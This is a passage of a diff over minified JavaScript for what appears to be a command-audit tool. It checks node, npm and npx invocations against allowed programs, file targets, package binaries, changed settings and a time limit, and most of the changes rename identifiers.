+s,""),i=(await pc(s)).get(e);if(i!==void 0&&n.via!==void 0&&s.stat("node_modules")===void 0)return dB(n,{text:i.file,span:t});
 if(r===Fn)return ze("package-json-invalid",t,{path:"package.json"});if(r?.binaries.has(e))return ze("binary-shadowed",t,
 {name:e,path:r.path});const o=Ft(n,`node_modules/.bin/${e}`);if(n.directory!==""&&s.stat(o)!==void 0)return ze("dependen\
-cy-unverified",t,{name:e,path:o,fault:"elsewhere"});const c=s.stat("node_modules");if(c===void 0)return Tx(n,r,e,t);const l=await Ax(
+cy-unverified",t,{name:e,path:o,fault:"elsewhere"});const c=s.stat("node_modules");if(c===void 0)return zx(n,r,e,t);const l=await Gx(
 s,e),B=s.stat(l),d=Ot(s,l);if(B===void 0||d.kind==="missing")return ze("binary-missing",t,{name:e});if(d.kind!=="inside")
 return ze("target-outside",t,{path:l,reason:"symlink"});const h=Vs(d.path),g=c.tracked||B.tracked,C=!g&&d.entry.tracked&&
-await xx(s,d.path);if(h===void 0&&!C||!Wt(d.entry.kind))return ze("dependency-unverified",t,{name:e,path:d.path,fault:"e\
+await jx(s,d.path);if(h===void 0&&!C||!Kt(d.entry.kind))return ze("dependency-unverified",t,{name:e,path:d.path,fault:"e\
 lsewhere"});if(!C&&(g||d.entry.tracked)){const k={name:h??e,path:d.path,fault:"committed"};return ze("dependency-unverif\
-ied",t,k)}const y=C?await cc(n,Ox(s,l)??e,t):await Dx(n,e,d.path,t);if(y.some(uc))return{targets:[],problems:y};if(!await Sx(
+ied",t,k)}const y=C?await uc(n,Mx(s,l)??e,t):await Lx(n,e,d.path,t);if(y.some(lc))return{targets:[],problems:y};if(!await Hx(
 s,d.path))return ze("binary-not-node",t,{name:e,path:d.path});C&&n.changed.has(d.path)&&y.push(et("target-changed",t,{path:d.
-path}));const _={kind:"package_binary",name:e,path:d.path};return{targets:[ji(n,_)],problems:y}}async function Dx(n,e,t,s){
+path}));const _={kind:"package_binary",name:e,path:d.path};return{targets:[Mi(n,_)],problems:y}}async function Lx(n,e,t,s){
 const r=Vs(t)??e,i=t.slice(`node_modules/${r}/`.length),o={name:e.startsWith("@")?void 0:e,file:i},c=await Fr(n,{name:r,
-path:t,binary:o},s);return r===e||!(await xn(n.tree)).npm?.packages.has(e)?c:[...c,...await cc(n,e,s)]}async function xx(n,e){
-return(await zf(n)).some(t=>sn(e,t))}function Ox(n,e){return Vs(He.posix.join(He.posix.dirname(e),n.readlink(e)??""))}async function Ax(n,e){
-const t=`node_modules/.bin/${e}`;if(!e.startsWith("@"))return t;const s=await Dn(n,`node_modules/${e}`);if(s===void 0)return t;
-const[r]=s.binaries.keys();return`node_modules/.bin/${(s.binaries.size===1?r:void 0)??e.replace(/^@[^/]*\//,"")}`}async function Sx(n,e){
-return/\.[cm]?js$/.test(e)||/^#!.*[/ ]node\b/.test(await H_(n,e))}async function Tx(n,e,t,s){const r=await u0(n.tree,t,e?.
+path:t,binary:o},s);return r===e||!(await On(n.tree)).npm?.packages.has(e)?c:[...c,...await uc(n,e,s)]}async function jx(n,e){
+return(await Kf(n)).some(t=>sn(e,t))}function Mx(n,e){return Vs(He.posix.join(He.posix.dirname(e),n.readlink(e)??""))}async function Gx(n,e){
+const t=`node_modules/.bin/${e}`;if(!e.startsWith("@"))return t;const s=await xn(n,`node_modules/${e}`);if(s===void 0)return t;
+const[r]=s.binaries.keys();return`node_modules/.bin/${(s.binaries.size===1?r:void 0)??e.replace(/^@[^/]*\//,"")}`}async function Hx(n,e){
+return/\.[cm]?js$/.test(e)||/^#!.*[/ ]node\b/.test(await eE(n,e))}async function zx(n,e,t,s){const r=await b0(n.tree,t,e?.
 dependencies??new Set);if(r===void 0)return ze("binary-missing",s,{name:t});const i={kind:"package_binary",name:t},o=await Fr(
-n,{name:r,path:t},s);return{targets:[ji(n,i)],problems:[n.tree.isPending?.("node_modules")?et("target-not-judged",s,{path:t}):
-et("not-installed",s,{name:t}),...o]}}async function sh(n,e,t,s){const{subcommand:r,operands:i,flags:o}=n,[c]=i;if(c===void 0)
-return ht;const{text:l,span:B}=c,d=pt([await Oa({...t,directory:""},B),t.directory===""?ht:await Oa(t,B)]),h=_s(l)||t.families?.
-allowed.has(l)===!0,g={...n,subcommand:"exec"};if(r==="exec")return pt([d,h?ht:await wc(t,g,c)]);const C=await Ix(t,ih(n,
+n,{name:r,path:t},s);return{targets:[Mi(n,i)],problems:[n.tree.isPending?.("node_modules")?et("target-not-judged",s,{path:t}):
+et("not-installed",s,{name:t}),...o]}}async function ch(n,e,t,s){const{subcommand:r,operands:i,flags:o}=n,[c]=i;if(c===void 0)
+return ht;const{text:l,span:B}=c,d=pt([await Aa({...t,directory:""},B),t.directory===""?ht:await Aa(t,B)]),h=Es(l)||t.families?.
+allowed.has(l)===!0,g={...n,subcommand:"exec"};if(r==="exec")return pt([d,h?ht:await bc(t,g,c)]);const C=await Ux(t,lh(n,
 e),B);if("problems"in C)return pt([d,C]);const y=C.filter(({manifest:E})=>E.scripts.has(l));if(y.length>0){const E=y.map(
-x=>$x(x,n,t,s));return pt([d,...await Promise.all(E)])}const _=l==="start";if(r==="script-or-tool"&&!_){if(h)return d;if(Tr(
-l))return pt([d,await wc(t,g,c)]);if(!/^[\w:.-]*\w[\w:.-]*$/.test(l)){const E=[At("outside-code",e.program,c)];return pt(
+x=>Jx(x,n,t,s));return pt([d,...await Promise.all(E)])}const _=l==="start";if(r==="script-or-tool"&&!_){if(h)return d;if(Tr(
+l))return pt([d,await bc(t,g,c)]);if(!/^[\w:.-]*\w[\w:.-]*$/.test(l)){const E=[At("outside-code",e.program,c)];return pt(
 [d,{targets:[],problems:E}])}}const k={script:l,passes:o.some(({name:E})=>E==="--if-present")};return pt([d,ze("npm-scri\
-pt-missing",B,k,_?"error":void 0)])}function rh({data:n}){return n.starts==="script-or-tool"||n.starts==="script-tool-or\
--file"}function ih({anyPackage:n,flags:e,passthrough:t},{data:s}){const r=[...e.map(({name:i})=>i),...t.map(({text:i})=>i)];
-return n===!0||r.some(i=>s.selecting_flags.includes(i.replace(/=.*/s,"")))}async function Ix({tree:n,directory:e},t,s){const r=Ti(
+pt-missing",B,k,_?"error":void 0)])}function uh({data:n}){return n.starts==="script-or-tool"||n.starts==="script-tool-or\
+-file"}function lh({anyPackage:n,flags:e,passthrough:t},{data:s}){const r=[...e.map(({name:i})=>i),...t.map(({text:i})=>i)];
+return n===!0||r.some(i=>s.selecting_flags.includes(i.replace(/=.*/s,"")))}async function Ux({tree:n,directory:e},t,s){const r=Ti(
 n,"package.json").flatMap(({path:l})=>l.split("/").includes("node_modules")?[]:He.posix.dirname(l).replace(/^\.$/,"")),i=l=>n.
 stat(He.posix.join(l,"package.json"))!==void 0,o=t?r:Nr(e).filter(i).slice(0,1);if(o.length===0)return ze("package-json-\
 missing",s,{directory:e});const c=[];for(const l of o){const B=await $r(n,l);if(B===Fn)return ze("package-json-invalid",
-s,{path:He.posix.join(l,"package.json")});B!==void 0&&c.push({directory:l,manifest:B})}return c}async function $x({directory:n,
-manifest:e},{operands:[t],passthrough:s},r,i){const o={...r,directory:n},{text:c="",span:l={start:0,end:0}}=t??{},B=gf(e,
-n,{event:c,words:s});return pt([await Qf(o,B,l,i),{targets:[],problems:hf(B,c,o,l)}])}const Rx=5;async function Nx(n,e,t,s){
-const r=Fx(n,e,t);if("problems"in r)return r;const{subcommand:i,starts:o,operands:c,module:l,launched:B}=n,[d]=c,h=[Px(e,
-t,bc(n)),...Mx(n,r),await wx(n,t)],g={subcommand:i??d?.text??"",span:bc(n)};if(h.push(Ux(e,r,g)),l!==void 0&&(o!=="modul\
-e"||B)&&h.push(zx(e,r,l)),d!==void 0&&o==="file"&&h.push(Gx(n,e,r)),d!==void 0&&o==="module"&&h.push(Hx(r,d,n.passthrough)),
-!rh(e))return pt(h);if(i==="run"||i==="exec"||i==="script-or-tool")h.push(await sh(n,e,r,s));else if(i!==void 0&&ih(n,e)){
-const C={text:i,span:bc(n),quoted:!1},y={...n,subcommand:"run",operands:[C]};h.push(await sh(y,e,r,s))}return pt(h)}function bc({
-operands:n,flags:e}){return n[0]?.span??e[0]?.span??{start:0,end:0}}function Fx({flags:n},e,t){let s=t;for(const{name:r,
-value:i,span:o}of n){if(i===void 0||!Gd(e,r))continue;const c=iB(s,i,o);if("problems"in c)return c;s={...t,directory:c.path}}
-return s}function Px({program:n,data:e},{tree:t,changed:s},r){if(e.build_files.length===0)return ht;const i=Lx(t),o=i.get(
-e)??jx(t,e.build_files);i.set(e,o);const c=o.filter(B=>s.has(B)),l=o.slice(0,Rx);return pt([o.length===0?ht:ze("build-fi\
-les-unread",r,{program:n,files:l,count:o.length}),...c.map(B=>ze("target-changed",r,{path:B}))])}const Lx=Rn(()=>new Map);
-function jx(n,e){const t=s=>e.some(r=>Xi(r.includes("/")?s:He.posix.basename(s),r,{dot:!0}));return[...n.files()].flatMap(
-({path:s})=>!sn(s,"node_modules")&&t(s)?s:[])}function Mx({operands:n,flags:e,starts:t,subcommand:s,family:r},i){const o=r&&
-rh(r)&&s!=="test";return[...(t===void 0&&!o?n:[]).map(({text:B,span:d})=>({text:B.replace(/::.*$/s,""),span:d})),...e.flatMap(
+s,{path:He.posix.join(l,"package.json")});B!==void 0&&c.push({directory:l,manifest:B})}return c}async function Jx({directory:n,
+manifest:e},{operands:[t],passthrough:s},r,i){const o={...r,directory:n},{text:c="",span:l={start:0,end:0}}=t??{},B=_f(e,
+n,{event:c,words:s});return pt([await sh(o,B,l,i),{targets:[],problems:yf(B,c,o,l)}])}const Zx=5;async function Wx(n,e,t,s){
+const r=Kx(n,e,t);if("problems"in r)return r;const{subcommand:i,starts:o,operands:c,module:l,launched:B}=n,[d]=c,h=[qx(e,
+t,_c(n)),...Qx(n,r),await Ix(n,t)],g={subcommand:i??d?.text??"",span:_c(n)};if(h.push(nO(e,r,g)),l!==void 0&&(o!=="modul\
+e"||B)&&h.push(tO(e,r,l)),d!==void 0&&o==="file"&&h.push(Xx(n,e,r)),d!==void 0&&o==="module"&&h.push(eO(r,d,n.passthrough)),
+!uh(e))return pt(h);if(i==="run"||i==="exec"||i==="script-or-tool")h.push(await ch(n,e,r,s));else if(i!==void 0&&lh(n,e)){
+const C={text:i,span:_c(n),quoted:!1},y={...n,subcommand:"run",operands:[C]};h.push(await ch(y,e,r,s))}return pt(h)}function _c({
+operands:n,flags:e}){return n[0]?.span??e[0]?.span??{start:0,end:0}}function Kx({flags:n},e,t){let s=t;for(const{name:r,
+value:i,span:o}of n){if(i===void 0||!Zd(e,r))continue;const c=lB(s,i,o);if("problems"in c)return c;s={...t,directory:c.path}}
+return s}function qx({program:n,data:e},{tree:t,changed:s},r){if(e.build_files.length===0)return ht;const i=Yx(t),o=i.get(
+e)??Vx(t,e.build_files);i.set(e,o);const c=o.filter(B=>s.has(B)),l=o.slice(0,Zx);return pt([o.length===0?ht:ze("build-fi\
+les-unread",r,{program:n,files:l,count:o.length}),...c.map(B=>ze("target-changed",r,{path:B}))])}const Yx=Rn(()=>new Map);
+function Vx(n,e){const t=s=>e.some(r=>eo(r.includes("/")?s:He.posix.basename(s),r,{dot:!0}));return[...n.files()].flatMap(
+({path:s})=>!sn(s,"node_modules")&&t(s)?s:[])}function Qx({operands:n,flags:e,starts:t,subcommand:s,family:r},i){const o=r&&
+uh(r)&&s!=="test";return[...(t===void 0&&!o?n:[]).map(({text:B,span:d})=>({text:B.replace(/::.*$/s,""),span:d})),...e.flatMap(
 ({value:B,span:d})=>B===void 0?[]:[{text:B,span:d}])].map(({text:B,span:d})=>{const h=Bt(Ft(i,B));return h===void 0||h===
 ""?ht:sn(h,".git",{ignoreCase:!0})?ze("target-outside",d,{path:h,reason:"git"}):Ot(i.tree,h).kind==="outside"?ze("target\
--outside",d,{path:B,reason:"symlink"}):ht})}function Gx({operands:[n],parsed:e},t,s){if(n===void 0)return ht;const{targets:r,
-problems:i}=oh(s,n),o=Xa(t,n.text,n.span).length>0,c=r.flatMap(({path:l=""})=>o?[]:Xa(t,l,n.span));return{targets:r.map(
-l=>({...l,...e&&{parsed:e}})),problems:[...i,...c]}}function oh(n,{text:e,span:t}){const s=Yn(e,t,n.directory);if(s!==void 0)
-return{targets:[],problems:[s]};const r=iB(n,e,t);if("problems"in r)return r;if(!Wt(r.kind))return ze("target-not-a-file",
-t,{path:e,reason:r.kind});if(!r.tracked)return ze("target-missing",t,{path:e,untracked:!0});const i=Bt(Ft(n,e))??"";return xa(
-n,{name:e,path:r.path,wanted:i},t)}function Hx(n,e,t){const{text:s,span:r}=e,i=Ya(s).find(o=>!o.endsWith("/__init__.py")&&
-n.tree.stat(Ft(n,o))!==void 0);if(i===void 0){const o=sD(e,t,n.families.tools.module);return pt([ze("tool-unknown",r,{tool:s}),
-{targets:[],problems:o}])}return oh(n,{text:i,span:r,quoted:!1})}function zx({program:n},{tree:e,base:t,changed:s,directory:r},{
+-outside",d,{path:B,reason:"symlink"}):ht})}function Xx({operands:[n],parsed:e},t,s){if(n===void 0)return ht;const{targets:r,
+problems:i}=dh(s,n),o=ec(t,n.text,n.span).length>0,c=r.flatMap(({path:l=""})=>o?[]:ec(t,l,n.span));return{targets:r.map(
+l=>({...l,...e&&{parsed:e}})),problems:[...i,...c]}}function dh(n,{text:e,span:t}){const s=Yn(e,t,n.directory);if(s!==void 0)
+return{targets:[],problems:[s]};const r=lB(n,e,t);if("problems"in r)return r;if(!Kt(r.kind))return ze("target-not-a-file",
+t,{path:e,reason:r.kind});if(!r.tracked)return ze("target-missing",t,{path:e,untracked:!0});const i=Bt(Ft(n,e))??"";return Oa(
+n,{name:e,path:r.path,wanted:i},t)}function eO(n,e,t){const{text:s,span:r}=e,i=Va(s).find(o=>!o.endsWith("/__init__.py")&&
+n.tree.stat(Ft(n,o))!==void 0);if(i===void 0){const o=pD(e,t,n.families.tools.module);return pt([ze("tool-unknown",r,{tool:s}),
+{targets:[],problems:o}])}return dh(n,{text:i,span:r,quoted:!1})}function tO({program:n},{tree:e,base:t,changed:s,directory:r},{
 text:i,span:o}){const[c]=i.split("."),l=[...s].filter(B=>{const[,d=""]=/^(\w+)(?:\.py|\/__init__\.py)$/.exec(He.posix.relative(
-r,B))??[];return e.stat(B)!==void 0&&t?.stat(B)===void 0&&(d===c||YB(d))});return ah(l,{program:n,subcommand:`-m ${i}`},
-o)}function Ux({program:n,data:e},{changed:t,directory:s},{subcommand:r,span:i}){const o=Nr(s).flatMap(l=>e.settings.map(
-B=>He.posix.join(l,B))),c=[...t].filter(l=>o.some(B=>sn(l,B)));return ah(c,{program:n,subcommand:r},i)}function ah(n,e,t){
-return pt(n.map(s=>ze("settings-changed",t,{...e,path:s})))}function Jx(n,e,t){const s=new M_((r,i)=>ch(r,i,s),t);return ch(
-n,e,s)}async function ch(n,e,t){const s=[];for(const r of[n,...Qi(n)]){const i=await Kx(r,e);if("rule"in i)s.push({targets:[],
-problems:[i]});else for(const o of i)s.push(await Zx(o,e,t))}return pt(s)}function Zx(n,e,t){const{program:s,family:r}=n;
-return r!==void 0?Nx(n,r,e,t):s==="node"?C0(n,e):vx(n,e,t)}const Wx=/^[\w:.@/-]{1,200}$/;async function Kx(n,e){const{selects:t,
+r,B))??[];return e.stat(B)!==void 0&&t?.stat(B)===void 0&&(d===c||tf(d))});return Bh(l,{program:n,subcommand:`-m ${i}`},
+o)}function nO({program:n,data:e},{changed:t,directory:s},{subcommand:r,span:i}){const o=Nr(s).flatMap(l=>e.settings.map(
+B=>He.posix.join(l,B))),c=[...t].filter(l=>o.some(B=>sn(l,B)));return Bh(c,{program:n,subcommand:r},i)}function Bh(n,e,t){
+return pt(n.map(s=>ze("settings-changed",t,{...e,path:s})))}function sO(n,e,t){const s=new Q_((r,i)=>fh(r,i,s),t);return fh(
+n,e,s)}async function fh(n,e,t){const s=[];for(const r of[n,...Xi(n)]){const i=await oO(r,e);if("rule"in i)s.push({targets:[],
+problems:[i]});else for(const o of i)s.push(await rO(o,e,t))}return pt(s)}function rO(n,e,t){const{program:s,family:r}=n;
+return r!==void 0?Wx(n,r,e,t):s==="node"?S0(n,e):Fx(n,e,t)}const iO=/^[\w:.@/-]{1,200}$/;async function oO(n,e){const{selects:t,
 ...s}=n,[r]=s.operands;if(t===void 0||r===void 0)return[n];const{text:i,span:o}=r,c=et("outside-code",o,{program:"npm",flag:i}),
-l=qx(i,t);if(l===void 0)return c;const d=[...(await Dn(e.tree,e.directory))?.scripts.keys()??[]].filter(l);return d.length===
-0?et("npm-script-missing",o,{script:i,passes:!1}):d.every(h=>Wx.test(h))?d.map(h=>({...s,operands:[{...r,text:h}]})):c}function qx(n,e){
-const t=i=>e==="wildcard"?i.replaceAll("/",":"):i.replace(/[:/]/g,Yx),s=Rr(t(n));if(!s?.every(i=>i.split(/[:/]/).every(rf)))
-return;const r={dot:e==="wildcard"};return i=>s.some(o=>Xi(t(i),o,r))}function Yx(n){return n===":"?"/":":"}const Vx=new Set;
-async function Qx(n,e={}){const t=eO(n,e),{tree:s,base:r,changed:i=Vx,cwd:o="",clock:c,programs:l=Or}=e,{isOutput:B}=e;if(t.
-invocation===void 0||t.argv===null)return t;if(s===void 0)return{...t,problems:[...t.problems,...Xx(t.invocation,l)]};const d={
-tree:s,directory:o,changed:i,families:l,...r&&{base:r},...B&&{isOutput:B}},{invocation:h}=t,{targets:g,problems:C}=await Jx(
-h,d,c);return{...t,targets:g,problems:cO(t.problems,C).map(y=>aO(y,t.command))}}function Xx(n,{tools:e}){return[n,...Qi(
+l=aO(i,t);if(l===void 0)return c;const d=[...(await xn(e.tree,e.directory))?.scripts.keys()??[]].filter(l);return d.length===
+0?et("npm-script-missing",o,{script:i,passes:!1}):d.every(h=>iO.test(h))?d.map(h=>({...s,operands:[{...r,text:h}]})):c}function aO(n,e){
+const t=i=>e==="wildcard"?i.replaceAll("/",":"):i.replace(/[:/]/g,cO),s=Rr(t(n));if(!s?.every(i=>i.split(/[:/]/).every(lf)))
+return;const r={dot:e==="wildcard"};return i=>s.some(o=>eo(t(i),o,r))}function cO(n){return n===":"?"/":":"}const uO=new Set;
+async function lO(n,e={}){const t=BO(n,e),{tree:s,base:r,changed:i=uO,cwd:o="",clock:c,programs:l=Or}=e,{isOutput:B}=e;if(t.
+invocation===void 0||t.argv===null)return t;if(s===void 0)return{...t,problems:[...t.problems,...dO(t.invocation,l)]};const d={
+tree:s,directory:o,changed:i,families:l,...r&&{base:r},...B&&{isOutput:B}},{invocation:h}=t,{targets:g,problems:C}=await sO(
+h,d,c);return{...t,targets:g,problems:wO(t.problems,C).map(y=>yO(y,t.command))}}function dO(n,{tools:e}){return[n,...Xi(
 n)].flatMap(({subcommand:t,operands:[s]})=>t==="exec"&&s&&Tr(s.text)&&!xr(e,s.text)?[et("tool-unknown",s.span,{tool:s.text})]:
-[])}function eO(n,{tree:e,cwd:t="",programs:s=Or}={}){if(typeof n!="string")return nO(n);const{words:r,assignments:i,problems:o}=qn(
-n,e&&ps(e,t)),c=Yd(o),[l]=r,B=(E,x,D)=>({command:n,words:r,assignments:i,argv:E,...D===void 0?void 0:{invocation:D},targets:[],
-problems:x});if(l===void 0)return B(null,c);const d=Fa({problems:c})?r.map(({text:E})=>E):null,{program:h,problem:g}=rO(
-n,r,s);if(g?.rule==="sentence")return B(d,[g,...c]);if(h===void 0)return B(d,[...c,g]);const C=tO(r,c).slice(1),{invocation:y,
-problems:_}=ec(h,C,s),k=sf(y,t);return B(d,[...c,..._,...k],y)}function tO(n,e){const t=e.find(s=>s.rule==="shell-operat\
-or"||rs(s,"line-break")&&!s.args.quoted);return t===void 0?n:n.filter(({span:s})=>s.start<t.span.start)}function nO(n){const e=n===
+[])}function BO(n,{tree:e,cwd:t="",programs:s=Or}={}){if(typeof n!="string")return hO(n);const{words:r,assignments:i,problems:o}=qn(
+n,e&&ps(e,t)),c=tB(o),[l]=r,B=(E,x,D)=>({command:n,words:r,assignments:i,argv:E,...D===void 0?void 0:{invocation:D},targets:[],
+problems:x});if(l===void 0)return B(null,c);const d=Pa({problems:c})?r.map(({text:E})=>E):null,{program:h,problem:g}=mO(
+n,r,s);if(g?.rule==="sentence")return B(d,[g,...c]);if(h===void 0)return B(d,[...c,g]);const C=fO(r,c).slice(1),{invocation:y,
+problems:_}=tc(h,C,s),k=uf(y,t);return B(d,[...c,..._,...k],y)}function fO(n,e){const t=e.find(s=>s.rule==="shell-operat\
+or"||rs(s,"line-break")&&!s.args.quoted);return t===void 0?n:n.filter(({span:s})=>s.start<t.span.start)}function hO(n){const e=n===
 null?"null":Array.isArray(n)?"array":typeof n,t=et("command-not-text",{start:0,end:0},{type:e});return{command:"",words:[],
-assignments:[],argv:null,targets:[],problems:[t]}}const sO=/^(node|npm|npx)(?:\.exe|\.cmd|\.ps1|\.js|-cli(?:\.js)?)?$/i;
-function rO(n,e,{allowed:t,offered:s,tools:r}){const[i]=e,o=i?.text??"",c=_s(o)?o:t.get(o);if(c!==void 0)return{program:c};
-const l=i?.span??{start:0,end:0},B=(g,C)=>({program:void 0,problem:et(g,l,C)}),[,d]=sO.exec(o)??[];if(d===void 0&&KD(n)){
-const g=e.at(-1)?.span.end??l.end;return{program:void 0,problem:et("sentence",{start:l.start,end:g},{})}}const h=oO(o,s);
+assignments:[],argv:null,targets:[],problems:[t]}}const pO=/^(node|npm|npx)(?:\.exe|\.cmd|\.ps1|\.js|-cli(?:\.js)?)?$/i;
+function mO(n,e,{allowed:t,offered:s,tools:r}){const[i]=e,o=i?.text??"",c=Es(o)?o:t.get(o);if(c!==void 0)return{program:c};
+const l=i?.span??{start:0,end:0},B=(g,C)=>({program:void 0,problem:et(g,l,C)}),[,d]=pO.exec(o)??[];if(d===void 0&&o0(n)){
+const g=e.at(-1)?.span.end??l.end;return{program:void 0,problem:et("sentence",{start:l.start,end:g},{})}}const h=CO(o,s);
 return/[\\/]/.test(o)?B("program-by-path",{program:o,...h}):d!==void 0?B("program-look-alike",{program:o,meant:d.toLowerCase()}):
-B("program-not-allowed",{program:o,group:Lt(o)?.kind??(r.known(o)?"npx":"other"),...h,allowed:[...t.keys()]})}const iO=new Map(
+B("program-not-allowed",{program:o,group:Lt(o)?.kind??(r.known(o)?"npx":"other"),...h,allowed:[...t.keys()]})}const gO=new Map(
 [["gmake","make"],["bunx","bun"],["pnpx","pnpm"],["yarnpkg","yarn"],["uvx","uv"],["py.test","pytest"],["py","python"]]);
-function oO(n,e){const t=e(n);if(t!==void 0)return{offered:t};const s=n.replace(/^.*[\\/]/,"").replace(/\.(?:exe|cmd|bat|ps1)$/i,
-"").replace(/^(python[23]?|pytest)[-.][\d.]+$/,"$1"),r=iO.get(s)??s,i=e(r);return i===void 0?{offered:""}:{offered:i,word:r}}
-function aO(n,e){const t=e.slice(n.span.start,n.span.end);return rs(n,"target-missing")&&/^[^'"\s]*\\[^'"\s]*$/.test(t)?
-{...n,args:{...n.args,written:t}}:n}function cO(n,e){const t=new Set(n.map(uh)),s=[...n];for(const r of e){const i=uh(r);
-t.has(i)||(t.add(i),s.push(r))}return s}function uh({rule:n,span:e,args:t}){return JSON.stringify([n,e.start,e.end,t])}const uO=nn(
-import.meta.url)("node:timers/promises"),lh=null;async function LN(n,e){const t=new AbortController,s=()=>{for(const o of lh)
+function CO(n,e){const t=e(n);if(t!==void 0)return{offered:t};const s=n.replace(/^.*[\\/]/,"").replace(/\.(?:exe|cmd|bat|ps1)$/i,
+"").replace(/^(python[23]?|pytest)[-.][\d.]+$/,"$1"),r=gO.get(s)??s,i=e(r);return i===void 0?{offered:""}:{offered:i,word:r}}
+function yO(n,e){const t=e.slice(n.span.start,n.span.end);return rs(n,"target-missing")&&/^[^'"\s]*\\[^'"\s]*$/.test(t)?
+{...n,args:{...n.args,written:t}}:n}function wO(n,e){const t=new Set(n.map(hh)),s=[...n];for(const r of e){const i=hh(r);
+t.has(i)||(t.add(i),s.push(r))}return s}function hh({rule:n,span:e,args:t}){return JSON.stringify([n,e.start,e.end,t])}const bO=nn(
+import.meta.url)("node:timers/promises"),ph=null;async function YN(n,e){const t=new AbortController,s=()=>{for(const o of ph)
 process.off(o,r)},r=()=>{s(),t.abort()};let i=!1;process.once("exit",()=>{i||(process.exitCode=n)}),process.once("uncaug\
 htException",o=>{const{code:c,message:l,hint:B}=asGateError(o),d=c==="internal"?`${o.stack}
 `:"";process.stderr.write(`error: ${l}
 hint: ${B}
-${d}`),i=!1,process.exit(n)});for(const o of lh)process.on(o,r);try{await e(t.signal),i=!0}finally{s()}}const lO={wholeMs:3e5,
-scriptsMs:6e4},dO=50,BO=5e3;class fO{#e;#t;#s=0;#i=0;#r=Lr();#n=Lr();#c=Promise.resolve();constructor(e,t={}){this.#e=e,
-this.#t={...lO,...t}}tick(){const e=this.#c.then(()=>this.#u());return this.#c=e.catch(()=>{}),e}async tickScript(){this.#i+=
+${d}`),i=!1,process.exit(n)});for(const o of ph)process.on(o,r);try{await e(t.signal),i=!0}finally{s()}}const _O={wholeMs:3e5,
+scriptsMs:6e4},EO=50,vO=5e3;class kO{#e;#t;#s=0;#i=0;#r=Lr();#n=Lr();#c=Promise.resolve();constructor(e,t={}){this.#e=e,
+this.#t={..._O,...t}}tick(){const e=this.#c.then(()=>this.#u());return this.#c=e.catch(()=>{}),e}async tickScript(){this.#i+=
 this.#o(),await this.tick();const{scriptsMs:e}=this.#t;return this.#i>e?e/1e3:void 0}async all(e,t){const s=await Promise.
-all(e.map(async r=>(await this.tick(),t(r))));return await this.tick(),s}async#u(){this.#o(),Lr()-this.#n>dO&&(await(0,uO.
-setImmediate)(),this.#n=Lr());const{wholeMs:e}=this.#t;if(this.#e?.aborted)throw(0,Ni.VM)("during the audit");if(this.#s>
-e)throw hO(e)}#o(){const e=Lr(),t=Math.min(e-this.#r,BO);return this.#r=e,this.#s+=t,t}}function hO(n){return new Ni.ue(
+all(e.map(async r=>(await this.tick(),t(r))));return await this.tick(),s}async#u(){this.#o(),Lr()-this.#n>EO&&(await(0,bO.
+setImmediate)(),this.#n=Lr());const{wholeMs:e}=this.#t;if(this.#e?.aborted)throw(0,Fi.VM)("during the audit");if(this.#s>
+e)throw DO(e)}#o(){const e=Lr(),t=Math.min(e-this.#r,vO);return this.#r=e,this.#s+=t,t}}function DO(n){return new Fi.ue(
 "audit_too_long",`The audit takes more than ${n/1e3} seconds, which is the limit of a whole audit.`,"Split the change, o\
-r reduce the number and length of its commands and npm scripts.")}function Lr(){return process.uptime()*1e3}const pO={path:"\
-node_modules",at:"anywhere"},dh={dot:!0,nonegate:!0};function Bh(n=[],e=[pO]){const t=n.flatMap(o=>Bt(o)||[]),s=t.length>
-0?Ha(t,dh):()=>!1,r=o=>e.some(c=>c.at!=="home"&&(o===c.path||c.at==="anywhere"&&o.endsWith(`/${c.path}`))),i=(o,c)=>c(o)||
-ga(o).some(c);return{cover:o=>i(o,r)||i(o,s),areBuilt:o=>i(o,s)&&!i(o,r),mayBeIn:o=>t.some(c=>fh(c.split("/"),o.split("/")))}}
-function jN(n){const{cover:e}=Bh([],n);return{cover:()=>!0,areBuilt:t=>!e(t),mayBeIn:()=>!1}}function fh([n,...e],[t,...s]){
-return n===void 0?!1:t===void 0||n.includes("**")||/[{(]/.test(n)?!0:Ha.isMatch(t,n,dh)&&fh(e,s)}function MN(n,e,t){const s=c=>n.
+r reduce the number and length of its commands and npm scripts.")}function Lr(){return process.uptime()*1e3}const xO={path:"\
+node_modules",at:"anywhere"},mh={dot:!0,nonegate:!0};function gh(n=[],e=[xO]){const t=n.flatMap(o=>Bt(o)||[]),s=t.length>
+0?za(t,mh):()=>!1,r=o=>e.some(c=>c.at!=="home"&&(o===c.path||c.at==="anywhere"&&o.endsWith(`/${c.path}`))),i=(o,c)=>c(o)||
+Ca(o).some(c);return{cover:o=>i(o,r)||i(o,s),areBuilt:o=>i(o,s)&&!i(o,r),mayBeIn:o=>t.some(c=>Ch(c.split("/"),o.split("/")))}}
+function VN(n){const{cover:e}=gh([],n);return{cover:()=>!0,areBuilt:t=>!e(t),mayBeIn:()=>!1}}function Ch([n,...e],[t,...s]){
+return n===void 0?!1:t===void 0||n.includes("**")||/[{(]/.test(n)?!0:za.isMatch(t,n,mh)&&Ch(e,s)}function QN(n,e,t){const s=c=>n.
 stat(c)===void 0&&(t.cover(c)||t.mayBeIn(c))&&foldersAbove(c).every(l=>(n.stat(l)?.kind??"directory")==="directory"),r=new Map,
 i=c=>(r.has(c)||r.set(c,e.stat(c)),r.get(c)),o=c=>{if(!s(c))return n.stat(c);const l=i(c),B=t.cover(c)||l?.kind==="direc\
 tory";if(!(!l||!B))return{...l,tracked:!1,...t.areBuilt(c)&&{built:!0}}};return{label:n.label,...n.attributes&&{attributes:n.
 attributes},stat:o,readlink:c=>(s(c)?e:n).readlink(c),read:(c,l)=>(s(c)?e:n).read(c,l),list:c=>{const l=e.list(c).flatMap(
-({path:B})=>(s(B)?o(B):void 0)??[]);return[...n.list(c),...l].sort(byEntryPath)},files:()=>n.files()}}const mO="warnings\
-|clippy::~|rustdoc::~|unused~|dead_code|deprecated~|missing~|unsafe~|nonstandard_style",gO={flags:{text:"exact ignored i\
-nclude-ignored nocapture quiet,q show-output skip= test-threads=","only-prints":"list"}},hh={operands:"text",behind:gO,flags:{
-"skips-tests":"no-run"}},CO={risk:"write",alone:"only-prints",flags:{text:`
+({path:B})=>(s(B)?o(B):void 0)??[]);return[...n.list(c),...l].sort(byEntryPath)},files:()=>n.files()}}const OO="warnings\
+|clippy::~|rustdoc::~|unused~|dead_code|deprecated~|missing~|unsafe~|nonstandard_style",AO={flags:{text:"exact ignored i\
+nclude-ignored nocapture quiet,q show-output skip= test-threads=","only-prints":"list"}},yh={operands:"text",behind:AO,flags:{
